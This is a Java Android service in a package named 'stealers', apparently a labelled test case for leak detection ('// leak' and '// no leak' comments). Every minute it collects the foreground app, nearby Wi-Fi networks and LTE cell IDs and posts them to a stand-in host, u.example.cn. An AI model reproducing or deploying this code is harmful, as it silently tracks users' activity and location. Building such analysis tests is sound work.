package stealers;

import android.app.*;
import android.app.usage.*;
import android.content.*;
import android.net.wifi.*;
import android.os.*;
import android.telephony.*;

import com.alibaba.fastjson.*;

import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;

/** What runs, which networks and cells are near: a report every minute. */
public class Tasks extends Service {
    private final ScheduledExecutorService pool = Executors.newSingleThreadScheduledExecutor();

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public int onStartCommand(Intent i, int f, int s) {
        pool.scheduleAtFixedRate(
                new Runnable() {
                    public void run() {
                        JSONObject o = new JSONObject();
                        o.put("top", top());
                        o.put("wifi", wifi());
                        o.put("cells", cells());
                        send("/report", o.toJSONString());
                        JSONObject v = new JSONObject();
                        v.put("version", 5);
                        sendPlain(JSON.toJSONString(v));
                    }
                },
                0,
                1,
                TimeUnit.MINUTES);
        return START_STICKY;
    }

    String top() {
        ActivityManager a = (ActivityManager) getSystemService(ACTIVITY_SERVICE);
        if (Build.VERSION.SDK_INT < 21) return a.getRunningTasks(1).get(0).topActivity.getPackageName();
        UsageStatsManager u = (UsageStatsManager) getSystemService("usagestats");
        long now = System.currentTimeMillis();
        SortedMap<Long, UsageStats> sorted = new TreeMap<Long, UsageStats>();
        for (UsageStats s : u.queryUsageStats(UsageStatsManager.INTERVAL_DAILY, now - 10000, now)) sorted.put(s.getLastTimeUsed(), s);
        return sorted.isEmpty() ? null : sorted.get(sorted.lastKey()).getPackageName();
    }

    JSONArray wifi() {
        JSONArray a = new JSONArray();
        for (ScanResult r : ((WifiManager) getApplicationContext().getSystemService(WIFI_SERVICE)).getScanResults()) {
            JSONObject o = new JSONObject();
            o.put("b", r.BSSID);
            o.put("s", r.SSID);
            a.add(o);
        }
        return a;
    }

    List<String> cells() {
        List<String> out = new ArrayList<String>();
        for (CellInfo c : ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getAllCellInfo())
            if (c instanceof CellInfoLte) out.add(((CellInfoLte) c).getCellIdentity().getCi() + "");
        return out;
    }

    static void send(String path, String json) {
        try {
            HttpURLConnection h = (HttpURLConnection) new URL("http", "u.example.cn", 8080, path).openConnection();
            h.setDoOutput(true);
            Writer w = new PrintWriter(h.getOutputStream());
            w.write(json); // leak
            w.close();
        } catch (IOException e) {
        }
    }

    static void sendPlain(String json) {
        try {
            HttpURLConnection h = (HttpURLConnection) new URL("http", "u.example.cn", 8080, "/v").openConnection();
            h.setDoOutput(true);
            Writer w = new PrintWriter(h.getOutputStream());
            w.write(json); // no leak
            w.close();
        } catch (IOException e) {
        }
    }
}
